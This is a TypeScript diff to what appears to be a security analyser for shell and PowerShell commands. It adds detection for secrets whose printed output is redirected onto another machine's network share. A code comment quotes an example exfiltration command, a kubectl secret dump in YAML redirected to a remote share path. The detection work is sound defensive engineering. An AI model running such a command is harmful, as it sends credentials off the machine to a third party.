@@ -4,6 +4,8 @@ import type { Invocation, ShellEnv, ShellScope, Stdin, Redirect } from '../shell
 import { storedText } from './cmdlets.ts';
 import { COMMON_VALUED } from './bind.ts';
 import { literalWord, type Word } from '../shell/words.ts';
+import { secretToShare } from '../windows/share-secrets.ts';
+import { secretOutput } from '../shell/secret-sources.ts';
 import { buildOutputPairs, powershellPathSlashes, redirects, windowsLineFacts } from '../shell/tools/filesystem.ts';
 import { dispatchWindows, makeWindowsInvocation } from '../windows/dispatch.ts';
 import { SEARCH_LIST_VARIABLE, storedPathHijack } from '../windows/tools.ts';
@@ -1154,6 +1156,12 @@ class Walker {
     const inv = makeWindowsInvocation('powershell', words, redirects, stdin, span, this.scope, this.env);
     setPipeInput(inv, input, (block, item) => this.runBlock(block, item), this.item);
     dispatchWindows(inv, 'powershell');
+    // Round 41 (fo41): a secret printed (`kubectl get secret … -o yaml > \\host\share\x`) redirected onto another
+    // machine's share is sent off the machine (share-secrets.ts).
+    if (redirects.length > 0) {
+      const secret = secretOutput(lower, inv.args.map((a) => a.value));
+      for (const r of redirects) secretToShare(inv, r.target, secret);
+    }
     if (redirects.length > 0) storeRedirected(inv, redirects, outputOf(lower, inv.args, input));
     this.scope.buildOutput = outsideOutput;
     // Script blocks handed to a command may run (Invoke-Command, ForEach-Object, Where-Object, …).
